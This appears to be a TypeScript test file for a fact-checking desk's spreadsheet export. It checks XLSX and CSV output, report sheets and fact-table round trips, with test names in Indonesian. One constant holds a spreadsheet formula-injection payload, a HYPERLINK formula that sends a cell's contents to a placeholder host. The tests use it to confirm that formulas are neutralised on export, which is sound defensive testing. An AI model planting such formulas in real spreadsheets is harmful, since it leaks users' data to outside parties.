/** What leaves the desk as a spreadsheet; every text is invented. */
import { strFromU8, unzipSync } from 'fflate';
import { describe, expect, it } from 'vitest';
import { CASE_HEADINGS, caseCells } from '#data/desk/cases-table.ts';
import { tableCases } from '#data/desk/import/table-cases.ts';
import { dayOf } from '#data/desk/journal.ts';
import { report } from '#data/desk/report.ts';
import { REPORT_HEADINGS, reportRows, reportTables } from '#data/desk/report-table.ts';
import { readCsv, writeCsv } from '#data/formats/csv.ts';
import { importFactTable, toFactTable } from '#data/formats/fact-table.ts';
import { tableOf } from '#data/formats/table.ts';
import { readXlsx, readXlsxSheets } from '#data/formats/xlsx.ts';
import { writeXlsx } from '#data/formats/xlsx-write.ts';
import { ProgramFact } from '#data/schema/index.ts';
import { sampleCase, sampleWriter } from './sample.ts';

const sheet = (name: string, headings: readonly string[], rows: (string | number)[][]) => ({
  name,
  columns: headings.map((heading) => ({ heading, hint: '', width: 20 })),
  rows,
});
const ATTACK = '=HYPERLINK("https://contoh.example/?x="&A1;"klik")';

describe('lembar sebar yang keluar dari meja', () => {
  it('menandai rumus sebagai teks di XLSX, sehingga tidak jalan sesudah selnya disunting', () => {
    const { state } = sampleCase(sampleWriter(), { text: ATTACK, site: '@SUM(A1)' });
    const bytes = writeXlsx([sheet('Kasus', CASE_HEADINGS, [caseCells(state)])]);
    const xml = strFromU8(unzipSync(bytes)['xl/worksheets/sheet1.xml'] ?? new Uint8Array());
    expect(xml).not.toContain('<f>');
    expect(xml).toMatch(/<c r="B2" s="3" t="inlineStr">/);
    expect(xml).toMatch(/<c r="G2" s="3" t="inlineStr">/);
    const styles = strFromU8(unzipSync(bytes)['xl/styles.xml'] ?? new Uint8Array());
    const [, cellStyles = ''] = /<cellXfs[^>]*>(.*)<\/cellXfs>/.exec(styles) ?? [];
    expect([...cellStyles.matchAll(/<xf\b[^>]*>/g)][3]?.[0]).toContain('quotePrefix="1"');
    // What was written is read as it stood.
    expect(readXlsx(bytes).rows[0]?.cells[1]).toBe(ATTACK);
  });

  it('menulis jumlah sebagai angka dan status dengan kata Indonesia; kasusnya terbaca kembali', () => {
    const { state } = sampleCase(sampleWriter(), { url: 'https://contoh.example/1' });
    const bytes = writeXlsx([sheet('Kasus', CASE_HEADINGS, [caseCells(state)])]);
    const xml = strFromU8(unzipSync(bytes)['xl/worksheets/sheet1.xml'] ?? new Uint8Array());
    expect(xml).toContain('<c r="O2" s="0"><v>1</v></c>');
    const table = readXlsx(bytes);
    expect(table.rows[0]?.cells).toContain('baru');
    expect(tableCases(table)).toMatchObject({
      drafts: [{ text: state.fields.text, url: 'https://contoh.example/1' }],
      problems: [],
    });
  });

  it('memberi tanda kutip di depan rumus dalam CSV', () => {
    expect(writeCsv(['teks'], [[ATTACK]])).toContain(`"'=HYPERLINK`);
  });

  it('menulis laporan sebagai lembar per pertanyaan, dan sebagai satu CSV', () => {
    const { state } = sampleCase(sampleWriter(), { topics: ['bansos'], regions: ['71'] });
    const day = (at: number) => dayOf(at, 420);
    const tables = reportTables(report([state], '2026-11-01', '2026-11-30', day));
    const sheets = tables.map(({ name, headings, rows }) => sheet(name, headings, rows));
    const read = readXlsxSheets(writeXlsx(sheets));
    expect(read.map(({ name }) => name)).toEqual([
      ...['Ringkasan', 'Status', 'Topik', 'Wilayah', 'Situs', 'Per hari', 'Terbanyak'],
    ]);
    expect(read[2]?.table.rows[0]?.cells).toEqual(['bansos', '1', '1']);
    const csv = readCsv(writeCsv(REPORT_HEADINGS, reportRows(tables)));
    expect(csv.rows.map(({ cells }) => cells)).toContainEqual([
      ...['Topik', 'bansos', 'jumlah kasus', '1'],
    ]);
  });

  it('menulis fakta program sehingga suluh import membacanya sama', () => {
    const fact = ProgramFact.parse({
      ...{ id: 'kantor-uji-jembatan', program: 'Jembatan Uji', aliases: ['jembatan contoh'] },
      ...{ agency: 'Kantor Uji', statement: 'Jembatan uji panjangnya 12,5 meter.' },
      figures: [{ label: 'Panjang', value: 12.5, unit: 'meter', asOf: '2026-11-01' }],
      ...{ topics: ['jalan'], regions: ['71'], asOf: '2026-11-01', validThrough: '2027-01-01' },
      sources: [
        {
          ...{ url: 'https://contoh.example/j', title: 'Keterangan', publisher: 'Kantor Uji' },
          type: 'official',
        },
      ],
    });
    const rows = toFactTable([fact]).map((cells, i) => ({ row: i + 1, cells }));
    expect(importFactTable(tableOf(rows))).toEqual({ records: [fact], problems: [] });
  });
});
